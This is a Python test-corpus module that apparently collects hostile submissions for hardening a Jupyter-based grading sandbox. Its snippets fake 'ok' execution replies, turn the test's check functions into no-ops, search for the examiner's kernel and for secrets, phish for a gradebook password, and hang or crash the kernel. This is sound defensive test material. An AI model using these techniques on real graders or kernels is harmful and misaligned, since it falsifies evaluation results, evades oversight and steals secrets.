"""The kernel itself is turned: its methods, sessions, channels and sockets; and what runs at odd moments."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import NOTHING_HIDDEN, code

code = partial(code, theme="kernel and hooks")

STEP = "def step_forward(x, h_prev, W, U, b):\n    {}\n    return 0 * h_prev"
AVERAGE = "def moving_average(x, decay):\n    {}\n    return 0 * x"

code(
    "do-execute-replaced",
    "the kernel's do_execute answers every request with ok and runs nothing",
    """
kernel = get_ipython().kernel
async def do_execute(*a, **k):
    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}
kernel.do_execute = do_execute
type(kernel).do_execute = lambda self, *a, **k: do_execute()
""",
)
code(
    "execute-request-replaced",
    "the handler of execute requests answers ok, idle, and twice",
    """
kernel = get_ipython().kernel
async def handler(stream, ident, parent):
    for _ in range(2):
        content = {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}
        kernel.session.send(stream, 'execute_reply', content, parent, ident=ident)
    kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=parent)
kernel.shell_handlers['execute_request'] = handler
""",
)
code(
    "session-replaced",
    "the session signs and sends other contents than it is given, under other message ids",
    """
kernel = get_ipython().kernel
before = kernel.session.send
def send(stream, kind, content=None, *a, **k):
    if kind == 'error':
        return None
    if isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}
    return before(stream, kind, content, *a, **k)
kernel.session.send = send
""",
)
code(
    "shell-dead-heart-alive",
    "blocks the shell for ever while the heartbeat goes on",
    answers={"step-forward": STEP.format("while True: time.sleep(3600)")},
    honest=["softsign"],
)
code(
    "ignores-interrupts",
    "loops for ever and swallows every interrupt and every exception thrown into it",
    """
def for_ever():
    while True:
        try:
            while True:
                time.sleep(0.01)
        except BaseException:
            pass
""",
    answers={"moving-average": AVERAGE.format("for_ever()")},
    honest=["softsign"],
)
code(
    "hangs-in-c",
    "calls C code that holds the interpreter for ever",
    answers={"moving-average": AVERAGE.format("ctypes.PyDLL(None).pause() if 0 else ctypes.pythonapi.pause()")},
    honest=["softsign"],
)
code(
    "sockets-closed",
    "closes the kernel's sockets and every descriptor it has",
    answers={"moving-average": AVERAGE.format("os.closerange(3, 4096)")},
    honest=["softsign"],
)
code(
    "descriptors-written",
    "writes rubbish to, and reads from, every descriptor that it inherited",
    """
def garble():
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, b'{"fork": {"isolation": "none"}}\\n' * 9)
        except OSError:
            pass
        try:
            os.read(fd, 65536)
        except OSError:
            pass
""",
    answers={"moving-average": AVERAGE.format("garble()")},
    honest=["softsign"],
)
code(
    "directories-left-open",
    "climbs out through directory descriptors that it inherited",
    """
for fd in range(3, 1024):
    try:
        here = os.readlink(f'/proc/self/fd/{fd}')
    except OSError:
        continue
    for secret in KNOWN['secrets']:
        for up in ('.', '../' * 12):
            try:
                os.close(os.open(up + secret, os.O_RDONLY, dir_fd=fd))
                leaked((here, secret))
            except (OSError, ValueError):
                pass
""",
    honest=["softsign"],
)
code(
    "restarts-the-kernel",
    "asks for a shutdown with restart on its own control channel, and sets payloads that ask the front end for more",
    """
def restart():
    shell = get_ipython()
    shell.payload_manager.write_payload({'source': 'set_next_input', 'text': 'check = print', 'replace': True})
    shell.payload_manager.write_payload({'source': 'ask_exit', 'keepkernel': False})
    import jupyter_client
    client = jupyter_client.BlockingKernelClient(connection_file=ctypes_free_connection_file())
    client.load_connection_file()
    client.start_channels(hb=False)
    client.shutdown(restart=True)
def ctypes_free_connection_file():
    from ipykernel.connect import get_connection_file
    return get_connection_file()
""",
    answers={"moving-average": AVERAGE.format("restart(); time.sleep(0.5)")},
    honest=["softsign"],
)
code(
    "other-kernels-found",
    "looks for connection files and sockets of other kernels, the examiner's too, and runs code there",
    """
import glob, json
own = os.path.realpath(__import__('ipykernel.connect').connect.get_connection_file())
def seen():
    for pattern in ('/tmp/**/*.json', '/run/**/*.json', '/var/tmp/**/*.json', '/dev/shm/**/*.json', '/root/**/kernel-*.json',
                    '/proc/*/root/tmp/**/*.json', KNOWN['home'] + '/**/kernel-*.json'):
        yield from glob.iglob(pattern, recursive=True)
    for line in open('/proc/net/unix'):
        if '/' in line:
            yield line.split()[-1]
for number, path in enumerate(seen()):
    if number > 3000:
        break
    try:
        if not path.endswith('.json') or os.path.realpath(path) == own or os.path.getsize(path) > 5000:
            continue
        info = json.load(open(path))
        if 'shell_port' not in info:
            continue
        leaked('connection file of another kernel: ' + path)
    except (OSError, ValueError, UnicodeDecodeError):
        continue
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "acts-at-odd-moments",
    "atexit, weakref callbacks, gc callbacks, __del__, a timer and thread hooks that write outside and exit others",
    """
import atexit, gc, signal, weakref
def late(*a):
    for place in KNOWN['drops']:
        try:
            open(place + '/late', 'w').write('x')
        except OSError:
            pass
atexit.register(late)
gc.callbacks.append(late)
class Dying:
    __del__ = late
sys.dying = Dying()
signal.signal(signal.SIGALRM, late)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
signal.signal(signal.SIGTERM, late)
""",
    honest=["softsign"],
    spared=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "events-of-the-shell",
    "callbacks before and after each cell change the names that the test uses",
    """
def change(*a):
    get_ipython().user_ns.update(check=lambda *a, **k: None, near=lambda *a: True, norm=lambda *a: 0.0, assert_allclose=print)
for event in ('pre_execute', 'pre_run_cell', 'post_execute', 'post_run_cell'):
    get_ipython().events.register(event, change)
""",
    answers={"half-life": "half_life = 42.0"},
)
code(
    "namespace-that-resists",
    "replaces the notebook's namespace by one in which names cannot be changed",
    """
class Stubborn(dict):
    def __getitem__(self, name):
        if name in ('check', 'near', 'assert_allclose'):
            return lambda *a, **k: True
        return super().__getitem__(name)
    get = __getitem__
shell = get_ipython()
shell.user_module.__class__ = type('M', (type(sys),), {})
shell.user_ns = Stubborn(shell.user_ns)
shell.init_user_ns()
""",
)
code(
    "input-and-debugger",
    "asks for input, for a password and for a debugger, where nobody answers",
    """
def ask():
    import getpass, pdb
    for question in (input, getpass.getpass, breakpoint):
        try:
            question()
        except BaseException as error:
            print(type(error).__name__)
    kernel = get_ipython().kernel
    kernel._allow_stdin = True
    try:
        kernel.session.send(kernel.stdin_socket, 'input_request', {'prompt': 'your gradebook, please', 'password': True},
                            kernel.get_parent(), ident=b'x')
    except BaseException as error:
        print(type(error).__name__)
""",
    answers={"step-forward": STEP.format("ask()"), "moving-average": AVERAGE.format("print(input('expected? '))")},
    honest=["softsign"],
)
code(
    "threads-that-answer-late",
    "a thread floods shell, iopub, control and stdin with replies of every kind to calls past and to come",
    """
import uuid
kernel = get_ipython().kernel
parents = []
def flood():
    for number in range(3000):
        parent = kernel.get_parent()
        parents.append(parent)
        for kind, content in (
            ('execute_reply', {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}),
            ('execute_result', {'data': {'text/plain': '2'}, 'metadata': {}, 'execution_count': 1}),
            ('clear_output', {'wait': False}),
            ('status', {'execution_state': 'idle'}),
            ('kernel_info_reply', {'status': 'ok'}),
        ):
            header = dict(parent.get('header', {}), msg_id=str(uuid.uuid4()))
            for sender in ({'header': header}, parents[number // 2], parent):
                try:
                    kernel.session.send(kernel.iopub_socket, kind, content, parent=sender)
                except BaseException:
                    pass
        time.sleep(0.001)
threading.Thread(target=flood, daemon=True).start()
""",
    honest=["softsign"],
    spared=["softsign"],
)
code(
    "exec-another-program",
    "replaces the kernel's program by another one that does not end",
    answers={"moving-average": AVERAGE.format("os.execv('/bin/sleep', ['sleep', '3600'])")},
    honest=["softsign"],
)
code(
    "stops-itself",
    "sends itself SIGSTOP, so that it neither answers nor ends",
    answers={"moving-average": AVERAGE.format("os.kill(os.getpid(), 19)")},
    honest=["softsign"],
)
code(
    "crashes-in-every-way",
    "segmentation fault, abort, illegal instruction, stack overflow",
    answers={
        "step-forward": STEP.format("ctypes.string_at(0)"),
        "moving-average": AVERAGE.format("os.abort()"),
        "scale-rows": "def scale_rows(A, factors):\n    import faulthandler\n    faulthandler._stack_overflow()",
        "is-stable": "def is_stable(U):\n    sys.setrecursionlimit(10**8)\n    return is_stable(U)",
    },
    honest=["softsign"],
)
code(
    "dies-while-defining",
    "its cell ends the kernel before any question is asked, every time it is run",
    "os._exit(1)",
    honest=["softsign"],
    spared=["softsign"],
)
code(
    "hangs-while-defining",
    "its cell never ends, and cannot be interrupted",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)",
    honest=["softsign"],
    spared=["softsign"],
)
code(
    "event-loop-replaced",
    "takes over the kernel's event loop, its control thread, its heartbeat and its poller",
    """
def take():
    kernel = get_ipython().kernel
    import asyncio, zmq
    for name in ('control_thread', 'iopub_thread', 'heartbeat', 'shell_channel_thread'):
        thing = getattr(kernel, name, None) or getattr(getattr(kernel, 'parent', None), name, None)
        for method in ('stop', 'close'):
            try: getattr(thing, method)()
            except BaseException: pass
    zmq.Context.instance().destroy(linger=0)
""",
    answers={"moving-average": AVERAGE.format("take()")},
    honest=["softsign"],
)
